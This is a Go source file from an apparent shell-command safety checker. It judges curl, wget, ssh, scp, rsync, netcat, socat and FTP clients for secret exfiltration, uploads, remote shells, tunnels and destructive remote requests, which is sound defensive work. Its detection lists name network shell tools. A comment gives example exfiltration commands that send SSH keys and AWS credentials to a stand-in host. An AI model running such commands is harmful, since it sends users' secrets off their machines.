package bash

import (
	"path"
	"regexp"
	"slices"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Judgments of commands that talk to other machines: downloads, uploads,
// remote copies, raw connections.

// download judges curl, wget and httpie: uploads of secrets or home files,
// and where downloads land (to catch running them later).
func (x *command) download() {
	valued := "-d -F -T -o -H -u -X -A -e -b -c -x -w -K -m -r -E -z -C -U -Q -Y -y -t " +
		"--data --data-binary --data-raw --data-ascii --data-urlencode --form --form-string --upload-file --json --output " +
		"--header --user --request --user-agent --referer --cookie --cookie-jar --proxy --url --write-out --config " +
		"--connect-timeout --max-time --range --cert --key --cacert --resolve --retry " +
		"-D --dump-header --trace --trace-ascii --stderr --libcurl --output-dir --etag-save --hsts --alt-svc"
	if x.name == "wget" {
		valued = "-O -o -a -P -U -t -T -e -i -B -w -Q -l -D -R -A -X -I --output-document --output-file --append-output " +
			"--directory-prefix --post-data --post-file --body-data --body-file --header --user --password --execute " +
			"--tries --timeout --input-file --method --user-agent"
	}
	o := parseOpts(x.args, valued)
	leak, upload := false, false
	switch x.name {
	case "curl":
		for _, m := range o.all("-X", "--request") {
			x.httpMethod(m, o.operands)
		}
		for _, v := range o.all("-d", "--data", "--data-binary", "--data-raw", "--data-ascii", "--data-urlencode", "--json", "-F", "--form", "--form-string") {
			t := v.text
			file := ""
			switch {
			case strings.HasPrefix(t, "@"):
				file = t[1:]
			case strings.Contains(t, "=@"):
				file = t[strings.Index(t, "=@")+2:]
			case strings.Contains(t, "=<"):
				file = t[strings.Index(t, "=<")+2:]
			}
			file, _, _ = strings.Cut(file, ";")
			leak = leak || file == "-" && x.stdinSecret() || file != "" && file != "-" && x.l.leaks(file) || mentionsSecret(t)
			upload = upload || file != ""
		}
		for _, v := range o.all("-T", "--upload-file") {
			leak = leak || v.text == "-" && x.stdinSecret() || v.text != "-" && x.l.leaks(v.text)
			upload = true
		}
		dir := ""
		for _, d := range o.all("--output-dir") {
			dir = d.text + "/"
		}
		for _, v := range o.all("-o", "--output") {
			x.downloadedTo(dir + v.text)
		}
		if o.has("-O", "--remote-name", "--remote-name-all") {
			for _, u := range o.operands {
				x.downloadedTo(dir + urlBase(u.text))
			}
		}
		x.writes(o.all("-D", "--dump-header", "--trace", "--trace-ascii", "--stderr", "--libcurl", "-c", "--cookie-jar", "--etag-save", "--hsts", "--alt-svc"))
		if len(o.all("-K", "--config")) > 0 {
			x.flag(catOptionCode) // a config file can name any output file
		}
	case "wget":
		for _, v := range o.all("--post-file", "--body-file") {
			leak = leak || x.l.leaks(v.text)
			upload = true
		}
		for _, v := range o.all("--post-data", "--body-data") {
			leak = leak || mentionsSecret(v.text)
		}
		outs := o.all("-O", "--output-document")
		for _, v := range outs {
			x.downloadedTo(v.text)
		}
		x.writes(o.all("-P", "--directory-prefix", "-o", "--output-file", "-a", "--append-output"))
		for _, m := range o.all("--method") {
			x.httpMethod(m, o.operands)
		}
		if len(outs) == 0 {
			for _, u := range o.operands {
				x.downloadedTo(urlBase(u.text))
			}
		}
	case "aria2c", "axel", "lwp-download", "fetch":
		outs := parseOpts(x.args, "-o -d -O --out --dir --output").all("-o", "--out", "--output")
		for _, v := range outs {
			x.downloadedTo(v.text)
		}
		for i, u := range o.operands {
			if x.name == "lwp-download" && i == 1 {
				x.downloadedTo(u.text)
			} else if len(outs) == 0 {
				x.downloadedTo(urlBase(u.text))
			}
		}
	case "http", "https", "xh":
		if len(o.operands) > 1 {
			if m := strings.ToUpper(o.operands[0].text); isHTTPMethod(m) || !o.operands[0].static {
				x.httpMethod(o.operands[0], o.operands[1:])
			}
		}
		for _, op := range o.operands {
			if i := strings.Index(op.text, "@"); i >= 0 && (i == 0 || strings.ContainsAny(op.text[:i], "=:")) {
				leak = leak || x.l.leaks(strings.TrimLeft(op.text[i+1:], "@"))
			}
			if i := strings.Index(op.text, "@"); i > 0 && !strings.ContainsAny(op.text[:i], "/:.") {
				upload = true // field@file: the file's content is sent
			}
			if strings.Contains(op.text, "=") {
				leak = leak || mentionsSecret(op.text)
			}
		}
	}
	for _, r := range x.redirs {
		if (r.Op == syntax.RdrOut || r.Op == syntax.AppOut || r.Op == syntax.RdrClob) && r.Word != nil {
			x.downloadedTo(x.l.word(r.Word).text)
		}
	}
	switch {
	case leak:
		x.flag(catExfil)
	case upload && !allLoopback(o.operands):
		x.flag(catUpload)
	}
}

// allLoopback reports whether every URL among ops is on this machine
// (and there is one).
func allLoopback(ops []arg) bool {
	n := 0
	for _, u := range ops {
		if strings.Contains(u.text, "://") || strings.Contains(u.text, ".") || strings.Contains(u.text, ":") {
			if !isLoopbackURL(u) {
				return false
			}
			n++
		}
	}
	return n > 0
}

// urlBase is the file name a downloader gives a URL's content.
func urlBase(u string) string {
	u, _, _ = strings.Cut(u, "?")
	u, _, _ = strings.Cut(u, "#")
	return path.Base(u)
}

// networkTool reports commands that reach other machines with their
// arguments: a secret in an argument (curl https://x/$(cat ~/.ssh/id_rsa),
// dig $(base64 < ~/.aws/credentials).evil.example) leaves the machine.
func networkTool(name string) bool {
	if isNetworkSender(name) || isDownloader(name) {
		return true
	}
	switch name {
	case "dig", "nslookup", "host", "drill", "ping", "ping6", "whois", "ftp", "tftp", "scp", "rsync", "sftp":
		return true
	}
	return false
}

// leakyArgs flags a network command whose arguments carry the output of
// commands that read secrets or home files.
func (x *command) leakyArgs() {
	for _, a := range x.args[1:] {
		if a.subst && x.l.readsSecrets(a.word) {
			x.flag(catExfil)
			return
		}
	}
}

// downloadedTo remembers a file a download wrote, to recognize running it
// later in the same script; writing a sensitive file is flagged at once.
func (x *command) downloadedTo(p string) {
	if p == "" || p == "-" {
		return
	}
	put(&x.l.downloaded, canon(p), true)
	x.writes([]arg{{text: p, static: true}})
}

func (x *command) anyLeak(as []arg) bool {
	for _, a := range as {
		if x.l.leaks(a.text) {
			return true
		}
	}
	return false
}

// ssh judges the remote command (a shell parses it there) and stdin fed
// from a secret file.
func (x *command) ssh() {
	if o := parseOpts(x.args, "-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B -P"); len(o.all("-R", "-D", "-w")) > 0 {
		x.flag(catNetShell) // a remote or dynamic forward, a tunnel: the network reaches in
	}
	i := skipOpts(x.args, "-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B -P")
	if x.stdinSecret() {
		x.flag(catExfil)
	}
	// Options may follow the destination (ssh host -N): the remote command
	// starts at the first word after it that is no option.
	j := i + 1
	for j < len(x.args) && strings.HasPrefix(x.args[j].text, "-") && x.args[j].static {
		if hasWord("-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B -P", x.args[j].text) {
			j++
		}
		j++
	}
	if j < len(x.args) {
		x.runWords(x.args[j:], false)
	}
	// A destination with a command, or none (a login shell, or what stdin
	// feeds it), runs on the other machine: only -N (forwards, no
	// command) and options that print or control run nothing there.
	if o := parseOpts(x.args, "-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B -P"); i < len(x.args) && !o.has("-N", "-V", "-G", "-O", "-Q") {
		x.flag(catRemote)
	}
}

// copyRemote judges scp, sftp and rsync.
func (x *command) copyRemote() {
	o := parseOpts(x.args, "-c -F -i -J -l -o -P -S -D -X -e -f -B -T --rsh --rsync-path --exclude --include --filter "+
		"--files-from --log-file --password-file --chmod --chown --block-size --temp-dir --compare-dest --link-dest "+
		"--max-size --min-size --port --timeout --exclude-from --include-from --backup-dir --suffix")
	if x.name == "rsync" {
		for _, f := range o.flags {
			if strings.HasPrefix(f, "--delete") || f == "--remove-source-files" {
				x.flag(catDelete)
				break
			}
		}
	}
	x.transfer(o.operands)
}

// transfer judges SOURCE... DEST copies: home files or secrets sent to
// another machine, sensitive local destinations.
func (x *command) transfer(ops []arg) {
	if len(ops) < 2 {
		return
	}
	dest, srcs := ops[len(ops)-1], ops[:len(ops)-1]
	if !isRemote(dest.text) {
		x.writes([]arg{dest})
		return
	}
	for _, s := range srcs {
		if !isRemote(s.text) && x.l.leaks(s.text) {
			x.flag(catExfil)
			return
		}
	}
	for _, s := range srcs {
		if !isRemote(s.text) {
			x.flag(catUpload)
			return
		}
	}
}

// rclone judges deletions and uploads of home files.
func (x *command) rclone() {
	o := parseOpts(x.args, "--config --exclude --include --filter --transfers --checkers --log-file")
	switch o.operand(0) {
	case "purge", "delete", "deletefile", "rmdirs", "cleanup":
		x.flag(catDelete)
	case "copy", "sync", "move", "copyto", "moveto":
		x.transfer(o.operands[1:])
	}
}

// netcat judges raw connections: -e/-c shells, socat exec:, secrets on stdin.
func (x *command) netcat() {
	o := parseOpts(x.args, "-e -c -p -s -w -i -q -x -X -o --exec --sh-exec --lua-exec")
	if o.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec") {
		x.flag(catNetShell)
	}
	for _, op := range o.operands {
		low := strings.ToLower(op.text)
		if strings.HasPrefix(low, "exec:") || strings.HasPrefix(low, "system:") || strings.Contains(low, ",exec:") {
			x.flag(catNetShell)
		}
	}
	if x.stdinSecret() {
		x.flag(catExfil)
		return
	}
	if x.name == "socat" {
		x.socat(o.operands)
		return
	}
	// A connection to another machine sends what the command reads: a
	// file or a pipe feeding it is uploaded. Scans (-z) and listeners
	// (-l, judged as servers nowhere else) send nothing of ours.
	if x.name != "socat" && !o.has("-z", "-l") && len(o.operands) > 0 && !isLoopbackURL(o.operands[0]) && strings.Contains(o.operands[0].text, ".") {
		x.flag(catUpload)
	}
}

// socat judges socat's two addresses: a connection to another machine
// sends what the other address reads (a file, stdin: an upload), a
// listener serves it (a file: a server). EXEC and SYSTEM were judged as
// shells on the network.
func (x *command) socat(addrs []arg) {
	if len(addrs) != 2 {
		return
	}
	kind := func(a arg) (k, rest string) {
		t := a.text
		if t == "-" || strings.EqualFold(t, "stdin") || strings.EqualFold(t, "stdio") {
			return "stdin", ""
		}
		typ, rest, _ := strings.Cut(t, ":")
		typ = strings.ToUpper(typ)
		switch {
		case strings.Contains(typ, "LISTEN") || strings.HasSuffix(typ, "-L") || strings.HasPrefix(typ, "UDP-RECV"):
			return "listen", rest
		case strings.HasPrefix(typ, "TCP") || strings.HasPrefix(typ, "UDP") || strings.HasPrefix(typ, "SCTP") ||
			strings.HasPrefix(typ, "SSL") || strings.HasPrefix(typ, "OPENSSL") || strings.HasPrefix(typ, "SOCKS") ||
			strings.HasPrefix(typ, "PROXY") || strings.HasPrefix(typ, "DCCP") || strings.HasPrefix(typ, "IP-SENDTO"):
			return "connect", rest
		case typ == "FILE" || typ == "OPEN" || typ == "GOPEN" || typ == "CREATE" || typ == "CREAT" || typ == "PIPE" && rest != "":
			return "file", rest
		}
		return "", rest
	}
	for i, a := range addrs {
		k, rest := kind(a)
		ok, orest := kind(addrs[1-i])
		switch {
		case k == "connect" && (ok == "file" || ok == "stdin"):
			host, _, _ := strings.Cut(strings.Split(rest, ",")[0], ":")
			if isLoopbackURL(arg{text: host, static: a.static}) {
				continue
			}
			if file, _, _ := strings.Cut(orest, ","); ok == "file" && x.l.leaks(file) {
				x.flag(catExfil)
			} else {
				x.flag(catUpload)
			}
			return
		case k == "listen" && ok == "file":
			x.flag(catServe)
			return
		}
	}
}

// ftpClient reports file transfer clients that read their commands from
// a batch file or stdin.
func ftpClient(name string) bool {
	switch name {
	case "sftp", "ftp", "lftp", "tftp", "ncftp", "pftp", "smbclient":
		return true
	}
	return false
}

// ftpSession judges the commands of a file transfer session: given on the
// line (lftp -c/-e, tftp -c, smbclient -c), in a batch file (sftp -b,
// lftp -f) or fed to stdin (a here-document, a file). sftp HOST:PATH is a
// copy (copyRemote), no session.
func (x *command) ftpSession() {
	valued := map[string]string{
		"sftp": "-b -B -c -D -F -i -J -l -o -P -R -S -s -X", "lftp": "-c -e -f -p -u -d --rcfile --env-password",
		"tftp": "-m -l -p -v -R", "ncftp": "-u -p -P -j -b", "smbclient": "-c -U -W -p -A -s -I -n -t -m -D -O -T",
	}[x.name]
	o := parseOpts(x.args, valued)
	if x.name == "sftp" && slices.ContainsFunc(o.operands, func(a arg) bool { return isRemote(a.text) }) {
		return
	}
	var texts []string
	for _, c := range o.all("-c", "-e") {
		if x.name != "sftp" {
			texts = append(texts, strings.ReplaceAll(c.text, ";", "\n"))
		}
	}
	if x.name == "tftp" { // tftp HOST -c put FILE: the words after -c
		if i := slices.IndexFunc(x.args, func(a arg) bool { return a.text == "-c" }); i >= 0 {
			texts = append(texts, joinTexts(x.args[i+1:]))
		}
	}
	batch := o.all("-f")
	if x.name == "sftp" {
		batch = o.all("-b")
	}
	stdin := len(texts) == 0 && len(batch) == 0 && !(x.name == "smbclient" && len(o.all("-c")) > 0)
	for _, b := range batch {
		if isStdinPath(b.text) {
			stdin = true
			continue
		}
		t, problem := x.l.scriptTexts(b)
		if problem != "" {
			x.flagScript(problem)
			continue
		}
		texts = append(texts, t...)
	}
	if stdin {
		x.stdinCode(x.ftpCommands)
	}
	for _, t := range texts {
		x.ftpCommands(t)
	}
}

// joinTexts joins the texts of words with spaces.
func joinTexts(as []arg) string {
	var ts []string
	for _, a := range as {
		ts = append(ts, a.text)
	}
	return strings.Join(ts, " ")
}

// ftpCommands judges file transfer commands, one a line: put and reverse
// mirrors upload, deletions and renames change the other machine, ! runs
// a local shell.
func (x *command) ftpCommands(text string) {
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimLeft(strings.TrimSpace(line), "-@") // sftp: - ignores an error, @ echoes nothing
		if rest, ok := strings.CutPrefix(line, "!"); ok {
			x.shellCode(rest)
			continue
		}
		f := strings.Fields(line)
		if len(f) == 0 {
			continue
		}
		switch strings.ToLower(f[0]) {
		case "put", "mput", "reput", "append", "send", "sput", "putdir":
			if len(f) > 1 && x.l.leaks(f[1]) {
				x.flag(catExfil)
			} else {
				x.flag(catUpload)
			}
		case "mirror":
			if slices.Contains(f, "-R") || slices.Contains(f, "--reverse") {
				x.flag(catUpload)
			}
		case "rm", "rmdir", "delete", "mdelete", "mrm", "rename", "chmod", "chown", "chgrp", "del", "deltree", "rd":
			x.flag(catRemote)
		case "shell", "sh", "exec", "local":
			x.shellCode(strings.Join(f[1:], " "))
		}
	}
}

// isHTTPMethod reports a word that is an HTTP method.
func isHTTPMethod(m string) bool {
	switch m {
	case "GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT":
		return true
	}
	return false
}

// httpMethod asks before DELETE, PUT and PATCH requests (and a method only
// known at run time) to another machine: they change or remove what a
// server holds. Requests to this machine (localhost) are development.
func (x *command) httpMethod(m arg, urls []arg) {
	method := strings.ToUpper(m.text)
	if m.static && method != "DELETE" && method != "PUT" && method != "PATCH" {
		return
	}
	for _, u := range urls {
		if !isLoopbackURL(u) {
			x.flag(catHTTP)
			return
		}
	}
}

// isLoopbackURL reports a URL or host:port on this machine.
func isLoopbackURL(u arg) bool {
	if !u.static {
		return false
	}
	t := u.text
	if i := strings.Index(t, "://"); i >= 0 {
		t = t[i+3:]
	}
	host, _, _ := strings.Cut(t, "/")
	if at := strings.LastIndexByte(host, '@'); at >= 0 {
		host = host[at+1:]
	}
	if strings.HasPrefix(host, "[") {
		return strings.HasPrefix(host, "[::1]")
	}
	host, _, _ = strings.Cut(host, ":")
	return host == "localhost" || strings.HasPrefix(host, "127.") || host == "0.0.0.0" || strings.HasSuffix(host, ".localhost")
}

// isDownloader reports commands that fetch from the network.
func isDownloader(name string) bool {
	switch name {
	case "curl", "wget", "fetch", "aria2c", "http", "https", "xh", "lwp-download", "GET", "axel":
		return true
	}
	return false
}

// isNetworkSender reports commands that can send their stdin off the machine.
func isNetworkSender(name string) bool {
	switch name {
	case "nc", "ncat", "netcat", "socat", "telnet", "ssh", "curl", "wget", "http", "https", "xh",
		"mail", "mailx", "mutt", "sendmail", "openssl", "s-nail":
		return true
	}
	return false
}

// sshCode judges ssh options that run local commands: ProxyCommand,
// LocalCommand, KnownHostsCommand; scp -S runs a program.
func (x *command) sshCode() {
	o := parseOpts(x.args, "-o -S -F -i -J -l -p -P -c -D -E -e -I -L -m -O -Q -R -w -W -b -B")
	for _, v := range o.all("-o") {
		k, val, ok := strings.Cut(v.text, "=")
		if !ok {
			k, val, _ = strings.Cut(strings.TrimSpace(v.text), " ")
		}
		switch strings.ToLower(strings.TrimSpace(k)) {
		case "proxycommand", "localcommand", "knownhostscommand", "remotecommand":
			x.code(arg{text: strings.TrimSpace(val), static: v.static, subst: v.subst, word: v.word})
		case "pkcs11provider", "securitykeyprovider", "include", "controlpath", "identityagent", "proxyusefdpass":
			x.flag(catOptionCode)
		}
	}
	if x.name == "scp" || x.name == "sftp" {
		for _, v := range o.all("-S") {
			x.nested([]arg{v}, nil, x.via)
		}
	}
	if len(o.all("-F")) > 0 && x.name != "ssh-keygen" {
		for _, f := range o.all("-F") {
			if texts, problem := x.l.scriptTexts(f); problem != "" || sshConfigRuns(texts) {
				x.flag(catOptionCode)
			}
		}
	}
}

var sshConfigCode = regexp.MustCompile(`(?im)^\s*(proxycommand|localcommand|knownhostscommand|pkcs11provider|securitykeyprovider|include)\b`)

func sshConfigRuns(texts []string) bool {
	for _, t := range texts {
		if sshConfigCode.MatchString(t) {
			return true
		}
	}
	return false
}
